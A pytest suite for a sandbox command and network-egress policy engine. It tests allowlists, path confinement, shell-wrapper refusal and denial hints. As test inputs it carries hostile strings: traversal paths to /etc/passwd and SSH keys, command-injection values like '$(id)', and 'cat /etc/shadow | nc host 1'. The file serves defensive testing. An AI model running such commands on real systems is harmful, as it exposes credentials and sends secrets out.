import re

import pytest

from policies_app import engine, lint
from policies_app.document import DocumentError, parse_yaml
from policies_app.engine import VersionRef, compile_policy, evaluate, evaluate_egress

POLICY = """
commands:
  - id: pytest
    bin: pytest
    prepend_args: ["-q"]
    deny_args: ["^-c", "^-p"]
  - id: npm-test
    bin: npm
    prepend_args: ["test", "--"]
  - id: git-status
    bin: git
    allow_args: ["status", "--short"]
    max_args: 2
limits: {command_timeout_s: 30}
"""


def compiled(source: str = POLICY, number: int = 3):
    document = parse_yaml(source)
    return compile_policy(document, VersionRef("default", number, document.sha256()))


def decide(request: dict, source: str = POLICY):
    return evaluate(compiled(source), request)


def test_an_allowed_command_names_its_rule_and_the_argv_that_will_run():
    decision = decide({"bin": "pytest", "args": ["tests/test_app.py"]})
    assert (decision.allowed, decision.effect, decision.rule_id) == (True, "allow", "pytest")
    assert decision.argv == ("pytest", "-q", "tests/test_app.py")
    assert decision.policy_version == VersionRef("default", 3, parse_yaml(POLICY).sha256())


def test_a_command_outside_the_allowlist_is_bin_not_allowed_with_a_hint_naming_the_allowlist():
    decision = decide({"bin": "cargo", "args": ["test"]})
    assert (decision.allowed, decision.reason_code) == (False, "bin_not_allowed")
    assert decision.hint == "policy `default` v3 allows only `git`, `npm`, `pytest`; a security admin can add `cargo`"


def test_a_near_miss_suggests_the_nearest_rule():
    assert "did you mean `pytest`?" in decide({"bin": "pytset"}).hint


def test_a_bin_given_as_a_path_is_refused():
    decision = decide({"bin": "/usr/bin/pytest"})
    assert decision.reason_code == "bin_not_allowed"
    assert "bare program name" in decision.hint


@pytest.mark.parametrize("arg", ["-c", "-cfoo", "-p", "-pno:cacheprovider"])
def test_a_denied_argument_is_arg_denied_naming_the_rule_and_pattern(arg):
    decision = decide({"bin": "pytest", "args": ["tests", arg]})
    assert (decision.reason_code, decision.rule_id) == ("arg_denied", "pytest")
    assert f"`{arg}`" in decision.message and "denies arguments matching" in decision.hint


def test_allow_args_admit_only_listed_arguments():
    assert decide({"bin": "git", "args": ["status", "--short"]}).allowed
    decision = decide({"bin": "git", "args": ["push"]})
    assert (decision.reason_code, decision.rule_id) == ("arg_denied", "git-status")
    assert decide({"bin": "git", "args": ["status", "--short", "--short"]}).reason_code == "arg_denied"


@pytest.mark.parametrize(
    "arg", ["..", "../x", "a/../../x", "/etc/passwd", "/workspace/../etc", "~/.ssh/id_rsa", "--rootdir=/etc",
            "--junitxml=../../out.xml", "-o/etc/passwd", "x:/etc/passwd", "@/etc/passwd", "file:///etc/passwd",
            "core.hooksPath=/etc", "--a=b=/etc", "a,../../b", "a://../../etc/passwd"],
)
def test_paths_leaving_the_workspace_are_path_outside_workspace(arg):
    decision = decide({"bin": "pytest", "args": [arg]})
    assert decision.reason_code == "path_outside_workspace", arg


@pytest.mark.parametrize("arg", ["tests/", "./a/../b", "/workspace/tests", "a/b/../c", "-k", "test_x",
                                 "https://pypi.org/simple", "--out=/workspace/x", "-q"])
def test_paths_inside_the_workspace_are_allowed(arg):
    assert decide({"bin": "pytest", "args": [arg]}).allowed, arg


def test_a_url_hides_no_path_behind_a_long_scheme():
    assert decide({"bin": "pytest", "args": ["a" * 40 + "http://x/../../etc"]}).reason_code == \
        "path_outside_workspace"
    assert decide({"bin": "pytest", "args": ["git+https://example.com/x.git"]}).allowed


def test_deciding_takes_time_in_proportion_to_the_arguments():
    """A complexity check, not a speed target: five 64 KiB arguments took 30 s when the URL
    pattern was quadratic (and held the session's row lock meanwhile); linear, milliseconds."""
    import time

    started = time.perf_counter()
    decide({"bin": "pytest", "args": ["a" * 65536] * 5})
    assert time.perf_counter() - started < 5


def test_a_cwd_outside_the_workspace_is_refused_and_relative_paths_resolve_from_the_cwd():
    assert decide({"bin": "pytest", "cwd": "/tmp"}).reason_code == "path_outside_workspace"
    assert decide({"bin": "pytest", "cwd": "/workspace/a", "args": ["../b"]}).allowed
    assert decide({"bin": "pytest", "cwd": "/workspace/a", "args": ["../../b"]}).reason_code == \
        "path_outside_workspace"


def test_a_timeout_above_the_limit_is_limit_exceeded():
    decision = decide({"bin": "pytest", "timeout_s": 31})
    assert decision.reason_code == "limit_exceeded"
    assert "30 s" in decision.hint
    assert decide({"bin": "pytest", "timeout_s": 30}).allowed


@pytest.mark.parametrize("request_body", [{"bin": 3}, {"args": ["x"]}, {"bin": "pytest", "args": "x"},
                                          {"bin": "pytest", "shell": True}])
def test_a_malformed_request_is_schema_invalid(request_body):
    assert decide(request_body).reason_code == "schema_invalid"


def test_an_empty_policy_denies_everything_by_default():
    decision = decide({"bin": "pytest"}, source="mode: enforce\n")
    assert (decision.allowed, decision.reason_code) == (False, "default_deny")


def test_audit_mode_allows_but_records_the_would_be_denial():
    decision = decide({"bin": "pytest", "args": ["-c", "x"]}, source=POLICY + "mode: audit\n")
    assert (decision.allowed, decision.effect, decision.reason_code) == (True, "audit_deny", "arg_denied")
    assert decision.message.startswith("would be denied:")
    assert decision.argv == ("pytest", "-q", "-c", "x")


@pytest.mark.parametrize(
    ("request_body", "reason"),
    [({"bin": 3}, "schema_invalid"), ({"bin": "/bin/sh", "args": ["-c", "id"]}, "bin_not_allowed"),
     ({"bin": "pytest", "cwd": "/etc"}, "path_outside_workspace"), ({"bin": "pytest", "timeout_s": 999},
                                                                     "limit_exceeded"),
     ({"bin": "pytest", "timeout_s": 0}, "schema_invalid")],
)
def test_audit_mode_does_not_waive_what_no_policy_may_allow(request_body, reason):
    decision = decide(request_body, source=POLICY + "mode: audit\n")
    assert (decision.allowed, decision.effect, decision.reason_code) == (False, "deny", reason)


def test_arguments_are_never_interpreted_by_a_shell():
    decision = decide({"bin": "npm", "args": ["; id #", "$(id)"]})
    assert decision.allowed
    assert decision.argv == ("npm", "test", "--", "; id #", "$(id)")


EGRESS = """
network: {egress: allowlist, allow: ["pypi.org:443", "files.pythonhosted.org:443"]}
"""


def test_egress_is_denied_when_the_policy_allows_no_network():
    decision = evaluate_egress(compiled(), {"host": "pypi.org", "port": 443})
    assert (decision.allowed, decision.reason_code) == (False, "egress_denied")
    assert "allows no network egress" in decision.message
    assert 'allow: ["pypi.org:443"]' in decision.hint


def test_egress_is_allowed_only_to_the_exact_host_and_port_listed():
    policy = compiled(EGRESS)
    allowed = evaluate_egress(policy, {"host": "PyPI.org", "port": 443})
    assert (allowed.allowed, allowed.rule_id, allowed.argv) == (True, "network.allow", ())
    other_port = evaluate_egress(policy, {"host": "pypi.org", "port": 80})
    assert (other_port.allowed, other_port.reason_code) == (False, "egress_denied")
    assert "did you mean pypi.org:443?" in other_port.hint


def test_audit_mode_observes_commands_but_still_enforces_egress():
    # Letting every connection out to observe it would open the sandbox to the whole network.
    for request in ({"host": "example.com", "port": 443}, {"host": "1.2.3.4", "port": 22}):  # strings: nothing sent
        decision = evaluate_egress(compiled("mode: audit\nnetwork: {egress: allowlist, allow: ['pypi.org:443']}\n"),
                                   request)
        assert (decision.allowed, decision.effect) == (False, "deny"), request
    assert evaluate_egress(compiled("mode: audit\n"), {"host": "example.com", "port": 443}).effect == "deny"


def test_a_denial_s_hint_does_bounded_work_whatever_the_allowlist_s_size(monkeypatch):
    # A sandbox can ask for denials thousands of times a second: the hint compares with a few
    # entries of the same port, and lists a few.
    entries = [f"host{n}.example.org:{443 if n % 2 else 80}" for n in range(256)]
    policy = compiled(f"network: {{egress: allowlist, allow: {entries}}}\n")
    compared, real = [], engine.difflib.get_close_matches

    def spy(word, candidates, **options):
        compared.append(list(candidates))
        return real(word, candidates, **options)

    monkeypatch.setattr(engine.difflib, "get_close_matches", spy)
    decision = evaluate_egress(policy, {"host": "host7.example.org", "port": 80})
    assert decision.reason_code == "egress_denied" and "and 246 more" in decision.hint
    assert len(compared[0]) == engine.NEAR_CANDIDATES  # of 256
    assert all(entry.endswith(":80") or entry.startswith("host7.") for entry in compared[0])
    assert re.search(r"did you mean host[0-9]+\.example\.org:80\?", decision.hint), decision.hint


def test_a_malformed_egress_request_is_schema_invalid_in_any_mode():
    decision = evaluate_egress(compiled("mode: audit\n"), {"host": "a b", "port": 0})
    assert (decision.allowed, decision.reason_code) == (False, "schema_invalid")


def test_exact_args_allow_only_those_arguments_in_that_order():
    policy = "commands:\n  - {id: make-test, bin: make, exact_args: [test, -j2]}\n"
    assert decide({"bin": "make", "args": ["test", "-j2"]}, policy).allowed
    for other in (["-j2", "test"], ["test"], ["test", "-j2", "install"], []):
        decision = decide({"bin": "make", "args": other}, policy)
        assert (decision.allowed, decision.reason_code) == (False, "arg_denied"), other
        assert "allows exactly `test -j2`" in decision.message


CODE_RUNNERS = sorted(lint.SHELLS | lint.WRAPPERS | set(lint.INLINE_CODE))


@pytest.mark.parametrize("bin_name", CODE_RUNNERS)
@pytest.mark.parametrize("source", [POLICY, "commands: []\n"], ids=["allowlist", "default-deny"])
def test_a_denial_never_suggests_granting_a_program_that_runs_arbitrary_code(bin_name, source):
    for args in ([], ["-c", "cat /etc/shadow"], ["script.py"], ["pytest", "-q"]):
        decision = decide({"bin": bin_name, "args": args}, source)
        if decision.reason_code in {"bin_not_allowed", "default_deny"}:
            assert not decision.hint.endswith(f"can add `{bin_name}`"), decision.hint
            assert f"can add a rule for `{bin_name}`" not in decision.hint, decision.hint
            assert "lint flags it" in decision.hint, decision.hint
        elif lint.inline_code_flag(bin_name, args):  # denied by a rule's arguments (git -c): never "widen it"
            assert "lint flags it" in decision.hint and "can widen" not in decision.hint, decision.hint


def test_a_shell_denial_suggests_the_command_it_wraps_as_argv():
    decision = decide({"bin": "bash", "args": ["-c", "cat /etc/shadow"]})
    assert decision.reason_code == "bin_not_allowed"
    assert 'the command it runs, {"bin": "cat", "args": ["/etc/shadow"]}, is refused too' in decision.hint
    allowed = decide({"bin": "bash", "args": ["-c", "pytest tests/"]}).hint  # judged: never a dead end
    assert 'send the command itself as argv instead, {"bin": "pytest", "args": ["tests/"]}: rule `pytest`' in allowed
    nested = decide({"bin": "sh", "args": ["-c", "bash -c ls"]}).hint
    assert "runs other programs too" in nested
    piped = decide({"bin": "sh", "args": ["-c", "cat /etc/shadow | nc host 1"]}).hint
    assert "send the program it would run" in piped and '"bin"' not in piped  # a pipeline is no single argv
    wrapped = decide({"bin": "env", "args": ["FOO=1", "pytest", "-q"]}).hint
    assert "runs any program named in its arguments" in wrapped


def test_an_interpreters_denial_says_how_to_allow_it_without_inline_code():
    hint = decide({"bin": "python3", "args": ["script.py"]}).hint
    assert "deny_args [`^-[A-Za-z]*c`]" in hint and "workspace file" in hint
    assert "allow_args that list the arguments" in decide({"bin": "make", "args": ["all"]}).hint  # SHELL= is no flag


@pytest.mark.parametrize("bin_name", [*sorted(lint.INLINE_CODE), "python3.11", "perl5.36"])
def test_the_rule_a_hint_suggests_is_one_lint_does_not_flag(bin_name):
    closing = lint.closing_deny_args(bin_name)
    hint = decide({"bin": bin_name, "args": []}, "commands: []\n").hint
    if closing is None:
        assert "allow_args that list the arguments" in hint
        return
    assert lint.lint(parse_yaml(f"commands:\n  - {{id: suggested, bin: '{bin_name}', deny_args: {closing!r}}}\n")) == []
    for flag in lint.INLINE_CODE[lint.program(bin_name)]:  # and it denies every spelling the engine sees
        for spelling in (flag, flag + "x", "-I" + flag[1:], flag + "=x"):
            if lint.inline_code_flag(bin_name, [spelling]):
                source = f"commands:\n  - {{id: s, bin: '{bin_name}', deny_args: {closing!r}}}\n"
                assert decide({"bin": bin_name, "args": [spelling]}, source).reason_code == "arg_denied", spelling


@pytest.mark.parametrize("args, program", [
    (["60", "pytest", "-q"], "timeout"), (["-n", "10", "pytest"], "nice"), (["FOO=1", "pytest"], "env"),
    (["/tmp/lock", "pytest"], "flock"), (["-s", "KILL", "5", "pytest"], "timeout"),
])
def test_a_wrappers_hint_names_the_program_it_wraps(args, program):
    hint = decide({"bin": program, "args": args}).hint
    assert '"bin": "pytest"' in hint and "rule `pytest` allows it" in hint, hint


def test_an_unparsed_wrapper_names_no_program():
    hint = decide({"bin": "xargs", "args": ["-0", "rm"]}).hint
    assert '"bin"' not in hint and "send the program it would run" in hint


def test_in_audit_mode_a_would_be_denial_is_not_called_allowed():
    hint = decide({"bin": "bash", "args": ["-c", "cat x"]}, "mode: audit\ncommands: []\n").hint
    assert "allows it" not in hint and "is refused too" in hint


def test_widening_a_rule_for_inline_code_is_not_suggested():
    source = """
commands:
  - id: python-scripts
    bin: python3
    allow_args: ["^[A-Za-z_]+\\\\.py$"]
  - id: node-one
    bin: node
    exact_args: ["app.js"]
"""
    for request in ({"bin": "python3", "args": ["-c", "import os"]}, {"bin": "python3", "args": ["-Ic", "x"]},
                    {"bin": "node", "args": ["--eval=process.exit()"]}):
        decision = decide(request, source)
        assert decision.reason_code == "arg_denied", decision
        assert "widen" not in decision.hint.replace("widening", ""), decision.hint
        assert "lint flags it" in decision.hint and "workspace file" in decision.hint
    plain = decide({"bin": "python3", "args": ["setup-1.py"]}, source)
    assert "a security admin can widen rule `python-scripts`" in plain.hint  # no code flag: widening is fine


def test_a_denied_inline_code_flag_is_not_answered_with_drop_it():
    source = "commands:\n  - {id: py, bin: python3, deny_args: ['^-c']}\n"
    hint = decide({"bin": "python3", "args": ["-c", "print(1)"]}, source).hint
    assert "drop" not in hint and "run code it is given" in hint and "workspace file" in hint
    assert decide({"bin": "pytest", "args": ["-p", "x"]}).hint.startswith("drop `-p`")  # not a code flag: drop it


def test_a_wildcard_entry_admits_the_names_under_its_suffix_only():
    policy = compiled("network: {egress: allowlist, allow: ['*.pythonhosted.org:443', 'pypi.org:443']}\n")
    assert evaluate_egress(policy, {"host": "files.pythonhosted.org", "port": 443}).allowed
    deep = evaluate_egress(policy, {"host": "a.b.pythonhosted.org", "port": 443})
    assert deep.allowed and "(by *.pythonhosted.org:443)" in deep.message
    for host, port in (("pythonhosted.org", 443), ("evilpythonhosted.org", 443), ("files.pythonhosted.org", 80),
                       ("pythonhosted.org.evil.com", 443)):
        assert evaluate_egress(policy, {"host": host, "port": port}).reason_code == "egress_denied", host


@pytest.mark.parametrize("entry, why", [
    ("*:443", "every host"), ("*.com:443", "public suffix"), ("*.co.uk:443", "public suffix"),
    ("10.0.0.0/8:443", "IP range"), ("pypi.org:0", "not 1-65535"), ("*.10.0.0.1:443", "takes no wildcard"),
])
def test_an_entry_that_opens_too_much_is_refused_by_the_schema_with_its_reason(entry, why):
    with pytest.raises(DocumentError, match=why):
        parse_yaml(f"network: {{egress: allowlist, allow: ['{entry}']}}\n")


@pytest.mark.parametrize("entry, why", [
    ("127.0.0.1:8000", "loopback"), ("[::ffff:10.0.0.1]:443", "private network"),
    ("169.254.169.254:80", "metadata"), ("[fe80::1]:443", "link-local"),
])
def test_an_entry_in_the_deny_set_is_flagged_by_lint_and_admits_nothing(entry, why):
    document = parse_yaml(f"network: {{egress: allowlist, allow: ['{entry}', 'pypi.org:443']}}\n")
    assert any(why in warning.message and "publishing refuses it" in warning.message for warning in lint.lint(document))
    host = entry.rsplit(":", 1)[0].strip("[]")
    decision = evaluate_egress(compile_policy(document, VersionRef("p", 1, "x")), {"host": host, "port": 443})
    assert not decision.allowed


def test_lint_warns_that_a_code_host_is_also_a_way_out():
    document = parse_yaml("network: {egress: allowlist, allow: ['github.com:443', '*.gitlab.com:443', "
                          "'pypi.org:443']}\n")
    flagged = [warning.message for warning in lint.lint(document) if "code host" in warning.message]
    assert len(flagged) == 2 and "github.com:443" in flagged[0] and "pushing" in flagged[0]


def test_an_egress_denial_to_the_deny_set_never_suggests_allowing_it():
    for source in (POLICY, "network: {egress: allowlist, allow: ['pypi.org:443']}\n"):
        decision = evaluate_egress(compiled(source), {"host": "169.254.169.254", "port": 80})
        assert decision.reason_code == "egress_address_denied" and "metadata" in decision.message
        assert "allow:" not in decision.hint and "no policy can allow it" in decision.hint


def test_an_ip_literal_is_refused_unless_the_policy_names_that_literal():
    # Pure evaluation of strings: nothing is sent anywhere.
    policy = compiled("network: {egress: allowlist, allow: ['pypi.org:443', '192.0.2.10:443']}\n")
    unnamed = evaluate_egress(policy, {"host": "1.2.3.4", "port": 443})
    assert (unnamed.allowed, unnamed.reason_code) == (False, "egress_ip_literal")
    assert "by a name on the allowlist" in unnamed.hint
    named_in_deny_set = evaluate_egress(policy, {"host": "192.0.2.10", "port": 443})  # documentation range
    assert (named_in_deny_set.allowed, named_in_deny_set.reason_code) == (False, "egress_address_denied")
